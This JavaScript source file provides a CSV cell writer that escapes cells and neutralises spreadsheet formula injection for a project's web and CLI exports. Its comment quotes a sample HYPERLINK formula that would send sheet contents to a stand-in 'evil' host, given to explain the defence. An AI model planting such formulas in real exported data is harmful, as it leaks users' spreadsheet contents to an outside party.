// @ts-check
// The one CSV cell writer of the project: every CSV the web front writes (grade, share and review
// pages) and the CLI's `knockout-judge export` go through csvCell, so a formula is neutralised the same
// way everywhere. Plain JS with no imports: the browser loads it as it is, and the CLI (src/cli) imports
// it with its types from csv-cell.d.ts.

/**
 * One CSV cell, quoted when it must be. A text that starts with = + - @, a tab or a carriage return
 * would run as a formula in a spreadsheet (an answer like `=HYPERLINK("http://evil/?"&A1)` leaks the
 * sheet when clicked): it gets a leading ' and quotes, as OWASP advises for CSV injection. Numbers are
 * ours, never formulas, and stay numbers.
 * @param {unknown} value
 * @returns {string}
 */
export function csvCell(value) {
  const s = value === null || value === undefined ? "" : String(value);
  if (typeof value !== "number" && /^[=+\-@\t\r]/.test(s)) return `"'${s.replace(/"/g, '""')}"`;
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/**
 * A whole CSV file: a header row and the rows, every cell through csvCell, CRLF line ends (RFC 4180).
 * @param {readonly string[]} head
 * @param {readonly (readonly unknown[])[]} rows
 * @returns {string}
 */
export function csvText(head, rows) {
  return `${[head, ...rows].map((r) => r.map(csvCell).join(",")).join("\r\n")}\r\n`;
}
